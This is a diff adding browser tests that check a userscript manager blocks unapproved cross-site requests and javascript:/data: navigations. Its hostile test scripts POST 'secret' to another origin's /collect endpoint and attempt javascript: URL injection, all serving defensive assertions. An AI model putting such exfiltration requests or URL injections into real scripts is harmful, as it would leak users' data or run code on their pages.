@@ -24,6 +24,8 @@ const BROWSERS = [
 const SHOTS = path.resolve(process.env.PARANOID_SCREENSHOTS || 'target/screenshots');
 const JQUERY = readFileSync(new URL('../node_modules/jquery/dist/jquery.min.js', import.meta.url), 'utf8');
 const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
+/** Unticks a box of the install page before the click (the user refusing a guessed power). */
+const untick = (box) => async (d) => { await d.executeScript(`document.getElementById('${box}').checked = false`); };
 const sha256 = (text) => createHash('sha256').update(text).digest('base64');
 const header = (lines) => `// ==UserScript==\n${lines.map((l) => `// ${l}`).join('\n')}\n// ==/UserScript==\n`;
 
@@ -307,8 +309,10 @@ for (const [browser, ext] of BROWSERS) {
 
     it('applies none of a hostile script\'s changes that run code, load, navigate or submit, and puts its replica right', async () => {
       server.serve('/target/index.html', 'text/html; charset=utf-8', TARGET);
-      const { page, id } = await session.paste(hostile(server.origin, other.origin));
+      // The install page guesses that it opens pages (it assigns location): the user says no.
+      const { page, id } = await session.paste(hostile(server.origin, other.origin), { onInstallPage: untick('page-navigate') });
       assert.equal(page.verdict, 'ok', page.text);
+      assert.match(page.text, /Opens pages/);
       await driver.get(`${server.origin}/target/index.html`);
       const all = await session.storageUntil((a) => session.valuesOf(a, id).report, 'the hostile script did not report');
       const { tried, seen, after } = session.valuesOf(all, id).report;
@@ -353,8 +357,10 @@ probe('parserRuns', () => { new DOMParser().parseFromString('<script>globalThis.
 probe('writeRuns', () => { document.write && document.write('<script>globalThis.ranInReplica = 5<' + '/script>'); return globalThis.ranInReplica; });
 GM_setValue('found', found);
 `;
-      const { page, id } = await session.paste(prober);
+      // It names fetch, so it is offered requests to its own site: the user refuses.
+      const { page, id } = await session.paste(prober, { onInstallPage: untick('page-requests') });
       assert.equal(page.verdict, 'ok', page.text);
+      assert.match(page.text, /Sends requests with fetch/);
       await driver.get(`${server.origin}/target/index.html`);
       const all = await session.storageUntil((a) => session.valuesOf(a, id).found, 'the prober did not report');
       const found = session.valuesOf(all, id).found;
@@ -411,7 +417,6 @@ GM_setValue('ready', true);
     });
 
     it('keeps the changes of a script refused "changes this page" in its replica, and gives one refused "reads this page" an empty document', async () => {
-      const untick = (box) => async (d) => { await d.executeScript(`document.getElementById('${box}').checked = false`); };
       const readOnly = header(['@name Read only', '@namespace paranoid-page', '@version 1', `@match ${server.origin}/target/*`, '@grant GM_setValue']) + `
 document.getElementById('para').textContent = 'changed by a reader';
 document.getElementById('box').appendChild(document.createElement('b')).textContent = 'added by a reader';
@@ -436,6 +441,121 @@ setTimeout(() => GM_setValue('seen', { ...seen, para: seen.para === null, clicks
       assert.deepEqual(session.valuesOf(all, writer.id).seen, { elements: 3, text: '', para: true, title: '', clicks: 0 }, 'an empty document, no events');
       const state = await driver.executeScript('return { para: document.getElementById("para").textContent, box: document.getElementById("box").innerHTML, banner: document.getElementById("banner")?.textContent ?? null }');
       assert.deepEqual(state, { para: 'Hello', box: '', banner: 'added without reading' });
+    });
+
+    it('sends a script\'s fetch, XMLHttpRequest and $.getJSON only to the site the user approved', async () => {
+      server.serve('/shop/index.html', 'text/html; charset=utf-8', '<!doctype html><html><body><ul id="prices"><li data-sku="a">A</li><li data-sku="b">B</li></ul></body></html>');
+      server.serve('/shop/api/prices.json', 'application/json', JSON.stringify({ a: 3, b: 5 }));
+      server.serve('/shop/api/stock.txt', 'text/plain', 'a=in;b=out');
+      // Shaped like price and stock helpers: read the page, ask the site's own API, annotate.
+      const requester = header(['@name Price helper', '@namespace paranoid-page', '@version 1', `@match ${server.origin}/shop/*`,
+        `@require ${server.origin}/lib/jquery.min.js#sha256=${sha256(JQUERY)}`, '@grant GM_setValue']) + `
+const report = {};
+const done = () => { if (Object.keys(report).length === 5) GM_setValue('report', report); };
+fetch('/shop/api/prices.json').then((r) => r.json()).then((prices) => {
+  for (const li of document.querySelectorAll('#prices li')) li.textContent += ' $' + prices[li.dataset.sku];
+  report.fetch = prices;
+  done();
+});
+const x = new XMLHttpRequest();
+x.open('GET', '/shop/api/stock.txt');
+x.onload = () => {
+  for (const part of x.responseText.split(';')) { const [sku, state] = part.split('='); document.querySelector('[data-sku="' + sku + '"]').dataset.stock = state; }
+  report.xhr = [x.status, x.getResponseHeader('content-type')];
+  done();
+};
+x.send();
+$.getJSON('/shop/api/prices.json', (d) => { report.jquery = d.b; done(); });
+fetch('OTHER_ORIGIN/collect?prices=1').then(() => { report.other = 'reached'; done(); }, (e) => { report.other = e.name + ': ' + e.message; done(); });
+const y = new XMLHttpRequest();
+y.open('POST', 'OTHER_ORIGIN/collect');
+y.onerror = () => { report.otherXhr = 'error'; done(); };
+y.onload = () => { report.otherXhr = 'reached'; done(); };
+y.send('secret');
+`.replaceAll('OTHER_ORIGIN', other.origin.replace('127.0.0.1', 'localhost'));
+      // `self` is the page's host on any port (as `@connect` hosts are): the other server is
+      // named by another host name, as another site would be.
+      const { page, id } = await session.paste(requester, { onInstallPage: async (d) => {
+        const offered = await d.executeScript(`return { requests: document.getElementById('page-requests').checked, hosts: [...document.querySelectorAll('#connect input')].map((b) => b.dataset.host + ':' + b.checked) }`);
+        assert.deepEqual(offered, { requests: true, hosts: ['self:true'] }, 'it is offered requests to its own site, as its code uses fetch');
+        mkdirSync(SHOTS, { recursive: true });
+        writeFileSync(path.join(SHOTS, `install-page-requests-${browser}.png`), Buffer.from(await d.takeScreenshot(), 'base64'));
+      } });
+      assert.equal(page.verdict, 'ok', page.text);
+      assert.match(page.text, /Sends requests with fetch/);
+      const hitsBefore = other.hits.length;
+      await driver.get(`${server.origin}/shop/index.html`);
+      const all = await session.storageUntil((a) => session.valuesOf(a, id).report, 'the price helper did not report');
+      const report = session.valuesOf(all, id).report;
+      assert.deepEqual(report.fetch, { a: 3, b: 5 });
+      assert.deepEqual(report.xhr, [200, 'text/plain']);
+      assert.equal(report.jquery, 5);
+      assert.match(report.other, /^TypeError: fetch: .* is not a @connect host you approved/);
+      assert.equal(report.otherXhr, 'error');
+      assert.equal(other.hits.length, hitsBefore, 'the other host saw no request');
+      const shown = await driver.executeScript('return [...document.querySelectorAll("#prices li")].map((li) => li.textContent + ":" + li.dataset.stock)');
+      assert.deepEqual(shown, ['A $3:in', 'B $5:out']);
+      // The requests carried no cookie (the user did not allow them) and no page referrer.
+      const asked = server.hits.filter((h) => h.path.startsWith('/shop/api/'));
+      assert.ok(asked.length >= 3, JSON.stringify(asked.map((h) => h.path)));
+      for (const h of asked) assert.ok(h.headers.cookie === undefined && h.headers.referer === undefined, JSON.stringify(h.headers));
+      await session.setStorage((a) => ({ [`paranoid:us:script:${id}`]: { ...a[`paranoid:us:script:${id}`], enabled: false } }));
+    });
+
+    it('opens pages only for a script let open them, only http(s), and never for a raw message', async () => {
+      server.serve('/nav/start.html', 'text/html; charset=utf-8', '<!doctype html><html><body><p id="p">start</p></body></html>');
+      server.serve('/nav/next.html', 'text/html; charset=utf-8', '<!doctype html><html><body><p id="p">next</p></body></html>');
+      server.serve('/nav/tab.html', 'text/html; charset=utf-8', '<!doctype html><html><body>tab</body></html>');
+      // A redirector, as the commonest navigating scripts are; it tries what it must not first.
+      const redirector = header(['@name Redirector', '@namespace paranoid-page', '@version 1', `@match ${server.origin}/nav/*`, '@grant GM_setValue']) + `
+if (location.pathname === '/nav/start.html') {
+  const tried = {};
+  for (const [name, f] of Object.entries({
+    js: () => { location.href = 'javascript:window.pwned = 1'; },
+    data: () => location.assign('data:text/html,<script>1</' + 'script>'),
+    openJs: () => window.open('javascript:1'),
+  })) { try { f(); tried[name] = 'ran'; } catch (e) { tried[name] = e.message; } }
+  // Past the layer, straight to the content script: it checks again.
+  paranoid.postMessage({ dom: 'navigate', how: 'assign', url: 'javascript:window.pwned = 2' });
+  paranoid.postMessage({ dom: 'navigate', how: 'open', url: 'data:text/html,x' });
+  paranoid.postMessage({ dom: 'navigate', how: 'assign', part: 'protocol', value: 'javascript' });
+  GM_setValue('tried', tried);
+  window.open('/nav/tab.html');
+  setTimeout(() => { location.href = '/nav/next.html?by=script'; }, 300);
+}
+`;
+      const { page, id } = await session.paste(redirector);
+      assert.equal(page.verdict, 'ok', page.text);
+      assert.match(page.text, /Opens pages/);
+      const handles = await driver.getAllWindowHandles();
+      await driver.get(`${server.origin}/nav/start.html`);
+      const deadline = Date.now() + 15000;
+      while (Date.now() < deadline && !(await driver.getCurrentUrl()).endsWith('/nav/next.html?by=script')) await sleep(200);
+      assert.equal(new URL(await driver.getCurrentUrl()).pathname + new URL(await driver.getCurrentUrl()).search, '/nav/next.html?by=script');
+      assert.equal(await driver.executeScript('return window.pwned ?? null'), null);
+      const all = await session.storageUntil((a) => session.valuesOf(a, id).tried, 'the redirector did not report');
+      for (const [name, why] of Object.entries(session.valuesOf(all, id).tried)) assert.match(why, /only http\(s\) pages are opened/, name);
+      // window.open: one new tab, at the script's address (the raw `data:` one was refused).
+      let opened = [];
+      for (let i = 0; i < 50 && opened.length === 0; i++) { opened = (await driver.getAllWindowHandles()).filter((h) => !handles.includes(h)); await sleep(200); }
+      assert.equal(opened.length, 1);
+      const here = await driver.getWindowHandle();
+      await driver.switchTo().window(opened[0]);
+      for (let i = 0; i < 50 && !(await driver.getCurrentUrl()).includes('/nav/tab.html'); i++) await sleep(100);
+      assert.equal(new URL(await driver.getCurrentUrl()).pathname, '/nav/tab.html');
+      await driver.close();
+      await driver.switchTo().window(here);
+      await session.setStorage((a) => ({ [`paranoid:us:script:${id}`]: { ...a[`paranoid:us:script:${id}`], enabled: false } }));
+
+      // The same script, refused "opens pages": it stays, and its raw messages move nothing.
+      const stay = await session.paste(redirector.replace('@name Redirector', '@name Redirector refused'), { onInstallPage: untick('page-navigate') });
+      const before = (await driver.getAllWindowHandles()).length;
+      await driver.get(`${server.origin}/nav/start.html`);
+      await session.storageUntil((a) => session.valuesOf(a, stay.id).tried, 'the refused redirector did not report');
+      await sleep(1500);
+      assert.equal(new URL(await driver.getCurrentUrl()).pathname, '/nav/start.html');
+      assert.equal((await driver.getAllWindowHandles()).length, before);
+      await session.setStorage((a) => ({ [`paranoid:us:script:${stay.id}`]: { ...a[`paranoid:us:script:${stay.id}`], enabled: false } }));
     });
   });
 }
